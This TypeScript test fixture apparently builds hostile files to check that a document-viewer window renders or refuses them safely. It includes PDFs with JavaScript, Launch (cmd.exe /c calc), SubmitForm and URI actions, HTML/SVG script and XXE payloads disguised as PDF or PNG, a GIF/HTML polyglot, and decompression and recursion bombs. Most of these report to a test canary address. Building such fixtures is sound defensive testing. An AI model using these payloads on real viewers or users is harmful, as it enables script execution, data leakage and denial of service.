import { deflateSync } from 'node:zlib'
import { encryptedPdf, flate, onePage, type PdfObject, rawPdf } from './raw-pdf.ts'

/** What the document window must make of a hostile file. */
export type Expected =
  /** Page 1 is drawn; nothing else of it happens. */
  | 'drawn'
  /** Drawn or refused, within the limits. */
  | 'drawn_or_refused'
  | 'document_type_unsupported'
  | 'document_too_complex'
  | 'document_too_large'
  | 'document_broken'
  | 'document_encrypted'

export interface HostileFile {
  name: string
  bytes: Uint8Array
  expected: Expected
}

const hello = 'BT /F 24 Tf 72 720 Td (Faktura) Tj ET'

/**
 * Files that try to get out of the window, or to hang it. Whatever they reach tells `canary`, an address that nothing
 * else asks for, or sets `pwned` in the page.
 */
export function hostileFiles(canary: string): HostileFile[] {
  return [...markup(canary), ...activePdfs(canary), ...pictures(canary), ...bombs(), ...unusable()]
}

function markup(canary: string): HostileFile[] {
  const script = `globalThis.pwned=1;top.pwned=1;fetch('${canary}/markup')`
  const html = `<!doctype html><title>Faktura</title><img src="${canary}/img"><script>${script}</script>`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><image href="${canary}/svg"/><script>${script}</script></svg>`
  const xml = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}/xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "${canary}/entity">]><x>&e;</x>`
  const of = (name: string, text: string): HostileFile => ({
    name,
    bytes: Buffer.from(text, 'latin1'),
    expected: 'document_type_unsupported',
  })
  return [
    of('html.pdf', html),
    of('svg.png', svg),
    of('xml.pdf', xml),
    of('html-with-pdf-head.pdf', `${html}\n%PDF-1.7\n`),
    of('bom-html.pdf', `\xef\xbb\xbf${html}`),
    of('javascript.pdf', `${script}//%PDX`),
    of('mhtml.pdf', `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}`),
  ]
}

function activePdfs(canary: string): HostileFile[] {
  const js = `app.alert('x'); this.submitForm('${canary}/js'); app.launchURL('${canary}/launch'); globalThis.pwned = 1`
  const drawn = (name: string, bytes: Uint8Array): HostileFile => ({ name, bytes, expected: 'drawn' })
  const either = (name: string, bytes: Uint8Array): HostileFile => ({
    name,
    bytes,
    expected: 'drawn_or_refused',
  })
  const content = flate(hello)
  const action = (what: string) => `/OpenAction << /Type /Action ${what} >>`
  return [
    drawn(
      'javascript-action.pdf',
      onePage(content, { catalog: action(`/S /JavaScript /JS (${literal(js)})`) }),
    ),
    drawn(
      'names-javascript.pdf',
      onePage(content, {
        catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${literal(js)}) >>] >> >>`,
      }),
    ),
    drawn(
      'page-action.pdf',
      onePage(content, { page: `/AA << /O << /S /JavaScript /JS (${literal(js)}) >> >>` }),
    ),
    drawn(
      'launch.pdf',
      onePage(content, { catalog: action('/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>') }),
    ),
    drawn('uri.pdf', onePage(content, { catalog: action(`/S /URI /URI (${canary}/uri)`) })),
    drawn(
      'go-to-remote.pdf',
      onePage(content, {
        catalog: action(`/S /GoToR /F << /FS /URL /F (${canary}/remote.pdf) >> /D [0 /Fit]`),
      }),
    ),
    drawn(
      'submit-form.pdf',
      onePage(content, { catalog: action(`/S /SubmitForm /F << /FS /URL /F (${canary}/submit) >>`) }),
    ),
    drawn(
      'link-over-page.pdf',
      onePage(content, {
        page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:globalThis.pwned=1) >> >>]`,
      }),
    ),
    drawn(
      'xfa.pdf',
      onePage(content, { catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>' }, [
        flate(
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">${js}</script></template></xdp:xdp>`,
        ),
      ]),
    ),
    drawn(
      'embedded-html.pdf',
      onePage(
        content,
        {
          catalog: '/Names << /EmbeddedFiles << /Names [(a.html) << /F (a.html) /EF << /F 6 0 R >> >>] >> >>',
        },
        [flate(`<script>fetch('${canary}/embedded')</script>`)],
      ),
    ),
    drawn(
      'external-stream.pdf',
      onePage({ dictionary: `/F << /FS /URL /F (${canary}/stream) >>`, stream: Buffer.from(hello) }),
    ),
    either(
      'font-with-script.pdf',
      onePage(flate('BT /G 24 Tf 72 720 Td (a) Tj ET'), {
        resources: `/ColorSpace << /C [/Separation (x) /DeviceRGB << /FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1] >>] >> /Font << /F 5 0 R /G << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 (0);globalThis.pwned=1//) 0] >> >>`,
      }),
    ),
  ]
}

/** Text for a PDF's literal string. */
function literal(text: string): string {
  return text.replace(/[\\()]/g, '\\$&')
}

function pictures(canary: string): HostileFile[] {
  const html = Buffer.from(`<script>globalThis.pwned=1;fetch('${canary}/polyglot')</script>`)
  const dot = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAAAAAAALAAAAAABAAEAAAIBRAA7', 'base64')
  return [
    { name: 'gif-and-html.gif', bytes: Buffer.concat([dot, html]), expected: 'drawn' },
    { name: 'huge.png', bytes: hugePng(60_000, 60_000), expected: 'document_too_complex' },
    { name: 'wide.png', bytes: hugePng(2_000_000, 1), expected: 'document_too_complex' },
    { name: 'huge.jpg', bytes: hugeJpeg(), expected: 'document_too_complex' },
    { name: 'no-pixels.png', bytes: hugePng(0, 0), expected: 'document_broken' },
    { name: 'cut.jpg', bytes: hugeJpeg().subarray(0, 8), expected: 'document_broken' },
    { name: 'huge-picture-in.pdf', bytes: hugePictureInPdf(), expected: 'drawn_or_refused' },
  ]
}

function chunk(type: string, data: Uint8Array): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(data.length)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, data, Buffer.alloc(4)])
}

/** A PNG of some hundred bytes that declares its size and has next to nothing of it. */
function hugePng(width: number, height: number): Uint8Array {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width)
  header.writeUInt32BE(height, 4)
  header.set([8, 6, 0, 0, 0], 8)
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(1000))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function hugeJpeg(): Uint8Array {
  const frame = [0xff, 0xc0, 0, 17, 8, 0xff, 0xff, 0xff, 0xff, 3, 1, 0x22, 0, 2, 0x11, 0, 3, 0x11, 0]
  return Buffer.from([0xff, 0xd8, ...frame, 0xff, 0xda, 0, 12, 3, 1, 0, 2, 0, 3, 0, 0, 0x3f, 0, 0xff, 0xd9])
}

function hugePictureInPdf(): Uint8Array {
  const picture: PdfObject = {
    dictionary:
      '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
    stream: deflateSync(Buffer.alloc(1000)),
  }
  return onePage(flate('q 595 0 0 842 0 0 cm /I Do Q'), { resources: '/XObject << /I 6 0 R >>' }, [picture])
}

function bombs(): HostileFile[] {
  return [
    { name: 'inflates-to-1-gb.pdf', bytes: inflating(1_000_000_000), expected: 'document_too_complex' },
    { name: 'nests-itself.pdf', bytes: nesting(), expected: 'drawn_or_refused' },
    { name: 'nests-tenfold.pdf', bytes: nestingDeep(), expected: 'document_too_complex' },
    { name: '100000-pages.pdf', bytes: manyPages(100_000), expected: 'drawn_or_refused' },
    { name: '300000-texts.pdf', bytes: manyTexts(300_000), expected: 'drawn_or_refused' },
    { name: 'pages-in-a-circle.pdf', bytes: circle(), expected: 'drawn_or_refused' },
    {
      name: 'many-paths.pdf',
      bytes: onePage(flate('0 0 m 500 800 l S\n'.repeat(2_000_000))),
      expected: 'drawn_or_refused',
    },
  ]
}

/** Some kB that inflate twice over to `length` bytes of page content. */
function inflating(length: number): Uint8Array {
  const once = deflateSync(Buffer.alloc(length, ' '), { level: 9 })
  return onePage({
    dictionary: '/Filter [/FlateDecode /FlateDecode]',
    stream: deflateSync(once, { level: 9 }),
  })
}

const form = (content: string, resources: string): PdfObject => ({
  dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << ${resources} >> >>`,
  stream: Buffer.from(content),
})

/** A form that draws itself. */
function nesting(): Uint8Array {
  return onePage(flate('/X Do'), { resources: '/XObject << /X 6 0 R >>' }, [
    form('/X Do '.repeat(10), '/X 6 0 R'),
  ])
}

/** Twelve forms, each drawing the next ten times: 10 ^ 12 drawings. */
function nestingDeep(): Uint8Array {
  const depth = 12
  const forms = Array.from({ length: depth }, (_, i) =>
    i === depth - 1 ? form('0 0 m 9 9 l S', '') : form('/X Do '.repeat(10), `/X ${7 + i} 0 R`),
  )
  return onePage(flate('/X Do'), { resources: '/XObject << /X 6 0 R >>' }, forms)
}

function manyPages(count: number): Uint8Array {
  const kids = Array.from({ length: count }, (_, i) => `${i + 5} 0 R`).join(' ')
  const page =
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources << /Font << /F 4 0 R >> >> >>'
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    flate(hello),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...Array.from({ length: count }, () => page),
  ])
}

function manyTexts(count: number): Uint8Array {
  const content = Array.from(
    { length: count },
    (_, i) => `1 0 0 1 ${i % 590} ${(i * 7) % 840} Tm (${i}) Tj`,
  ).join('\n')
  return onePage(flate(`BT /F 4 Tf\n${content}\nET`))
}

function circle(): Uint8Array {
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 2 >>',
    '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 2 >>',
  ])
}

function unusable(): HostileFile[] {
  return [
    { name: 'locked.pdf', bytes: encryptedPdf('hemligt', hello), expected: 'document_encrypted' },
    { name: 'cut.pdf', bytes: Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Cat'), expected: 'document_broken' },
    { name: 'empty.pdf', bytes: new Uint8Array(0), expected: 'document_type_unsupported' },
    {
      name: 'noise.pdf',
      bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(50_000, 0xa7)]),
      expected: 'document_broken',
    },
    {
      name: 'archive.zip',
      bytes: Buffer.from('PK\x03\x04', 'latin1'),
      expected: 'document_type_unsupported',
    },
    {
      name: '100-mb.pdf',
      bytes: Buffer.concat([onePage(flate(hello)), Buffer.alloc(100_000_000)]),
      expected: 'document_too_large',
    },
  ]
}
